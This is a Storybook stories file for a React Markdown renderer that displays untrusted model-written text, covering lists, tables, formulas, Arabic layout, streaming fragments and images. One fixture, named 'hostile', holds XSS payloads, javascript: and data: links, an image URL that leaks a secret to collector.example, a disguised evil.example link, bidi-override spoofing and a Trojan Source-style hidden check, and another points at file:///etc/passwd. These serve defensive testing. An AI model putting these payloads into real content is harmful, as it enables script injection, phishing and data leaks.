import type { StoryObj } from '@storybook/react-vite'
import { Fragment, type ReactElement } from 'react'
import { expect, userEvent, waitFor, within } from 'storybook/test'
import type { ChatInHand } from '../fixtures/chatInHand.ts'
import { handLoader } from '../fixtures/handLoader.ts'
import type { PartMeta } from '../fixtures/PartMeta.ts'
import { shownAs } from '../fixtures/shownAs.ts'
import { type StageArgs, stageControls } from '../fixtures/stageControls.ts'
import { Stage } from '../fixtures/Stage.tsx'
import { patientHighlighter } from '../fixtures/patientHighlighter.ts'
import { math } from '../math/math.ts'
import { Markdown } from './Markdown.tsx'
import type { MarkdownSettings } from './MarkdownContext.ts'
import { MarkdownProvider } from './MarkdownProvider.tsx'

interface Shown extends StageArgs {
  /** One text, or several below each other. */
  readonly texts: readonly string[]
  readonly streaming: boolean
}

const settings: MarkdownSettings = {
  ...math(),
  pluginsSee: 'leaf',
  highlighter: patientHighlighter(),
}

/**
 * Markdown that a model wrote, in GitHub's flavour. Nothing in it is trusted: HTML is text, links open apart, an image of
 * another host waits behind a button that names it. While it is written, only what grows is parsed and rendered.
 */
const meta = {
  component: Markdown,
  subcomponents: { MarkdownProvider },
  argTypes: {
    ...stageControls,
    texts: { description: 'One text, or several below each other.', control: 'object' },
  },
  args: { widthPx: 640, heightPx: 480, texts: [], streaming: false },
  loaders: [handLoader()],
  render: ({ texts, streaming, ...stage }, { loaded }): ReactElement => (
    <Stage hand={loaded['hand'] as ChatInHand} markdown={settings} {...stage}>
      <div data-part="thread-scroller">
        <div data-part="thread-content">
          {texts.map((text, index) => (
            <Fragment key={text}>
              {index > 0 && <div style={{ blockSize: 16 }} />}
              <Markdown text={text} streaming={streaming} />
            </Fragment>
          ))}
        </div>
      </div>
    </Stage>
  ),
  parameters: {
    docs: {
      source: shownAs(`
import { Markdown, MarkdownProvider, type MarkdownSettings } from '@millrace/react'
import { shikiHighlighter } from '@millrace/react/highlight'
import { math } from '@millrace/react/math'

// Made once, outside of components.
const settings: MarkdownSettings = {
  ...math(),
  pluginsSee: 'leaf',
  highlighter: shikiHighlighter(),
}

export const Answer = ({ text, streaming }: { text: string; streaming: boolean }) => (
  <MarkdownProvider {...settings}>
    <Markdown text={text} streaming={streaming} />
  </MarkdownProvider>
)
`),
    },
  },
} satisfies PartMeta<Shown>

export default meta

type Story = StoryObj<Shown>

/** Pictures end with the browser's window, at 900 pixels: the text comes in two halves. */
const words = `# A garden in one weekend

It takes *two days*, **one spade** and ~~a lot of~~ ***some*** patience. The [soil guide](https://example.com/soil) says why clay needs sand, and so do they at https://garden.example.org/clay.

## Saturday

1. Mark the bed, four metres by one and a half.
2. Cut the turf in strips:
   - as wide as the spade,
   - no deeper than \`5 cm\`:
     - roots below that grow again,
     - worms stay.
3. Turn it over.

### To buy

- [x] Compost, 80 litres
- [ ] Lime, but only for a soil that is sour: a strip of paper from the pharmacy tells, in water
  - [x] tested it
- [ ] Seeds: *dill*, \`Phacelia\`

> Who plants a tree in whose shade he will never sit has begun to see what life is about.
>
> > Said of many people, and
>
> - written down
> - by few.`

const boxes = `#### Rain, last week

| City | Rain, mm | Wind | Remarks |
| :--- | ---: | :---: | --- |
| Bergen | 71 | W | on **six** days |
| Cádiz | 0 | – | none since \`May\` |
| Ulm | 18 | SW | one [thunderstorm](https://example.com/storm) |

##### In one call

\`\`\`ts
/** Millimetres of rain over the last days. */
export const rain = (days: readonly Day[]): number =>
  days.reduce((sum, day) => sum + (day.rain ?? 0), 0)
\`\`\`

9. Items with more than a line

   are further apart.

10. So are those with code:

        an indented block, without a language

11. And the last.

---

###### Small print

Two lines of an address\\
end where they should, *\\*stars\\** stay, and so does AT&amp;T.`

/** The last of what is coloured. */
async function coloured(canvas: HTMLElement, last: string): Promise<void> {
  await waitFor(() => expect(within(canvas).getByText(last).dataset['token']).toBeDefined(), {
    timeout: 10_000,
  })
}

export const KitchenSinkOfWords: Story = {
  args: { texts: [words], heightPx: 810 },
  parameters: { looks: ['dark', 'rtl', 'narrow', 'large', 'print'] },
}

export const KitchenSinkOfBoxes: Story = {
  args: { texts: [boxes], heightPx: 840 },
  play: ({ canvasElement }) => coloured(canvasElement, '??'),
  parameters: { looks: ['dark', 'forced', 'print'] },
}

const arabicWords = `# حديقة في عطلة نهاية الأسبوع

تحتاج إلى *يومين* و**مجرفة واحدة** وبعض الصبر. يشرح [دليل التربة](https://example.com/soil) السبب، والأمر \`npm run build\` يبني الموقع.

## يوم السبت

1. حدد الحوض: أربعة أمتار في متر ونصف.
2. اقطع العشب شرائح:
   - بعرض المجرفة،
   - لا أعمق من \`5 cm\`.

- [x] سماد
- [ ] جير، ولكن فقط للتربة الحامضة: شريط ورق من الصيدلية يخبرك بذلك إذا وضعته في الماء مع التراب
  - [ ] افحص التربة أولا

> من يزرع شجرة لن يجلس في ظلها فقد بدأ يفهم الحياة.

1. اقلب التربة.

   اترك الديدان في مكانها.

2. ثم انتظر.

This paragraph is English, and stands on its own side.`

const arabicBoxes = `| المدينة | المطر | ملاحظات |
| --- | ---: | --- |
| بيرغن | 71 مم | ستة أيام |
| أولم | 18 مم | [عاصفة](https://example.com/storm) واحدة |

\`\`\`ts
// English code in an Arabic answer
const rain = days.reduce((sum, day) => sum + day.rain, 0)
\`\`\`

الحاشية هنا[^1]، وأخرى هناك[^2].

[^1]: من البيانات المفتوحة.
[^2]: انظر [المصدر](https://example.com/data).`

export const KitchenSinkInArabic: Story = {
  args: { texts: [arabicWords], heightPx: 640 },
  globals: { language: 'ar' },
}

export const BoxesInArabic: Story = {
  args: { texts: [arabicBoxes], heightPx: 450 },
  play: ({ canvasElement }) => coloured(canvasElement, '// English code in an Arabic answer'),
  globals: { language: 'ar' },
}

/** Of a page that says nothing of its direction: each item stands on the side of its words. */
export const ArabicAnswerInAnEnglishChat: Story = {
  args: { texts: [arabicWords], heightPx: 640 },
}

/** Each ends in the middle of something, and is shown as what it will most likely be. */
const halfOpen = [
  'The spade is **very sh',
  'Run `npm instal',
  'See the [soil guide](https://exam',
  'The map is here: ![Map of the stat',
  'It is one function:\n\n```python\ndef rain(city: str) -> float:\n    return sum(day.ra',
  '| City | Rain, mm |\n| :--- | ---: |\n| Bergen | 71 |\n| Cád',
  '1. Mark the bed.\n2. Cut the *turf',
  '- [x] Compost\n- [ ] Li',
  '> Who plants a tree in whose sha',
  'Its area is $$a \\cdot b$$, its edge \\(2(a + b',
]

export const HalfOpen: Story = {
  args: { texts: halfOpen, streaming: true, heightPx: 760 },
  play: ({ canvasElement }) => coloured(canvasElement, 'def'),
  parameters: { looks: ['dark'] },
}

const code = `In a shell:

\`\`\`sh
curl -s https://example.com/rain.json | jq '.days[] | select(.rain > 5)'
\`\`\`

In a page, with its style:

\`\`\`html
<p class="rain">71 mm</p>
<style>
  .rain { color: #1f5fbf; }
</style>
\`\`\`

1. In a list:

   \`\`\`json
   { "city": "Bergen", "rain": [71, 0, 18], "open": null }
   \`\`\`

2. And without a language:

   \`\`\`
   total 0
   \`\`\`

> \`\`\`diff
> - const bees = 0
> + const bees = 20_000
> \`\`\``

export const Code: Story = {
  args: { texts: [code], heightPx: 770 },
  play: ({ canvasElement }) => coloured(canvasElement, '+ const bees = 20_000'),
  parameters: { looks: ['dark', 'phone', 'forced'] },
}

const tables = `Aligned each way:

| Left | Centre | Right | By itself |
| :--- | :---: | ---: | --- |
| one | two | 3.50 | four |
| \`a \\| b\` | **bold** | 1,200.00 | a cell with so many words that it needs a second line in any window |
| | – | 0.10 | [a link](https://example.com) |

Wider than the window:

| Station | Latitude | Longitude | Elevation | Opened | Rain, mm | Snow, mm | Sun, hours |
| --- | ---: | ---: | ---: | --- | ---: | ---: | ---: |
| Bergen-Florida | 60.383 | 5.333 | 12 m | 1949 | 2,250 | 140 | 1,187 |
| Cádiz | 36.500 | −6.258 | 2 m | 1955 | 523 | 0 | 3,184 |

Only its head:

| City | Rain |
| --- | --- |`

export const Tables: Story = {
  args: { texts: [tables], heightPx: 680 },
  parameters: { looks: ['dark', 'phone', 'forced'] },
}

const formulas = `The roots of $$ax^2 + bx + c = 0$$ are where \\(x \\in \\mathbb{R}\\) is:

$$
x = \\frac{-b \\pm \\sqrt{b^2 - 4ac}}{2a}
$$

With $5 and $6 left alone, line by line:

\\[
\\begin{aligned}
\\nabla \\cdot \\mathbf{E} &= \\frac{\\rho}{\\varepsilon_0} \\\\
\\nabla \\times \\mathbf{B} &= \\mu_0 \\left( \\mathbf{J} + \\varepsilon_0 \\frac{\\partial \\mathbf{E}}{\\partial t} \\right)
\\end{aligned}
\\]

- In a list \\(\\sum_{i=1}^{n} i = \\tfrac{n(n+1)}{2}\\), and on its own line:

  $$\\int_0^\\infty e^{-x^2}\\,dx = \\frac{\\sqrt{\\pi}}{2}$$

| Name | Formula |
| --- | --- |
| Matrix | $$\\begin{pmatrix} a & b \\\\ c & d \\end{pmatrix}$$ |

Wider than the window:

$$a_0 + a_1 x + a_2 x^2 + a_3 x^3 + a_4 x^4 + a_5 x^5 + a_6 x^6 + a_7 x^7 + a_8 x^8 + a_9 x^9 + a_{10} x^{10} + a_{11} x^{11} = 0$$

$$f(x) = \\begin{cases} 1 & \\text{if } x > 0 \\\\ 0 & \\text{otherwise} \\end{cases} \\tag{1}$$

Wrong: \\(\\frac{b\\), and on its own line

$$
x^2^3
$$`

export const Formulas: Story = {
  args: { texts: [formulas], heightPx: 800 },
  parameters: { looks: ['dark', 'narrow'] },
}

export const FormulasInArabic: Story = {
  args: {
    texts: [
      `حل المعادلة \\(ax^2 + bx + c = 0\\) هو:

$$
x = \\frac{-b \\pm \\sqrt{b^2 - 4ac}}{2a}
$$

- مجموع الأعداد \\(\\sum_{i=1}^{n} i\\) معروف،
- وهذا خطأ: \\(\\frac{b\\).

$$a_0 + a_1 x + a_2 x^2 + a_3 x^3 + a_4 x^4 + a_5 x^5 + a_6 x^6 + a_7 x^7 + a_8 x^8 + a_9 x^9 = 0$$`,
    ],
    heightPx: 260,
  },
  globals: { language: 'ar' },
}

const footnotes = `Bees fly up to three kilometres[^far], rarely further[^1]. The figure is old[^far], and the [source][paper] older; [this one][nowhere] is not defined.

Here is text behind it, so that the notes are seen to be at the end.

[^far]: Measured with painted bees, and later with radar.
[^1]: Two notes:

    - a list in a note,
    - with a [link](https://example.com/radar).

[paper]: https://journal.example.org/1923 "On the range of bees"`

export const FootnotesAndDefinitions: Story = {
  args: { texts: [footnotes], heightPx: 310 },
  parameters: { looks: ['dark', 'print'] },
}

const hostile = `<script>alert('written')</script>

<img src=x onerror="alert(1)"> within a line, <b>not bold</b>.

A [dead link](javascript:alert(1)), a [hidden one](<java\tscript:alert(1)>), one to [data](data:text/html,<script>alert(1)</script>), one to [a place of the page](#/settings), and [one that leads elsewhere](https://evil.example/bank.example.com "bank.example.com").

An image that would tell: ![](https://collector.example/?secret=1234)

[![Press me](https://collector.example/button.png)](https://evil.example)

Turned round: \u202Etxt.exe\u202C, and [a \u202Eknil\u202C](https://example.com/\u202Egpj.exe).

\`\`\`js
if (role !== 'user\u202E \u2066// only for admins\u2069 \u2066') {
  grant() // \u200Fתודה
}
\`\`\`

<iframe src="https://collector.example"></iframe>

<style>* { display: none }</style>`

export const Hostile: Story = {
  args: { texts: [hostile], heightPx: 500 },
  play: ({ canvasElement }) => coloured(canvasElement, 'if'),
  parameters: { looks: ['dark'] },
}

const images = `A map: ![Map of the stations, with those that were closed last year](https://maps.example.com/stations.png) in the middle of a sentence.

![Chart](https://charts.example.net/a.png) ![](https://charts.example.net/b.png)

One within a link: [![Chart of the week](https://charts.example.net/week.png)](https://charts.example.net), and one that is none: ![a file](file:///etc/passwd).`

export const ImagesNotLoaded: Story = {
  args: { texts: [images], heightPx: 300 },
  parameters: { looks: ['dark', 'forced'] },
}

const chart = new URL('fixtures/chart.png', import.meta.url).href

const askedFor = `Rain by month:

![Rain by month](${chart})

From now on it is a picture like any other.`

/** Pressed by who reads. */
export const ImageAskedFor: Story = {
  args: { texts: [askedFor], heightPx: 300 },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement)
    await userEvent.click(canvas.getByRole('button', { name: /^Load image/ }))
    const image = await canvas.findByRole('img', { name: 'Rain by month' })
    await waitFor(() => expect(image).toHaveProperty('naturalWidth', 320))
  },
}

export const FocusOnALink: Story = {
  args: { texts: ['The [soil guide](https://example.com/soil) says why.'], heightPx: 90 },
  play: async ({ canvasElement }) => {
    within(canvasElement).getByRole('link').focus()
    await userEvent.keyboard('{Shift}')
  },
}

const more = 'A text of more than a megabyte. '.repeat(32_768) + 'And its end.'

export const MoreOnRequest: Story = {
  args: { texts: [more], heightPx: 240 },
  play: async ({ canvasElement }) => {
    const button = await within(canvasElement).findByRole(
      'button',
      { name: /^Show more/ },
      { timeout: 30_000 },
    )
    button.scrollIntoView({ block: 'end' })
  },
}
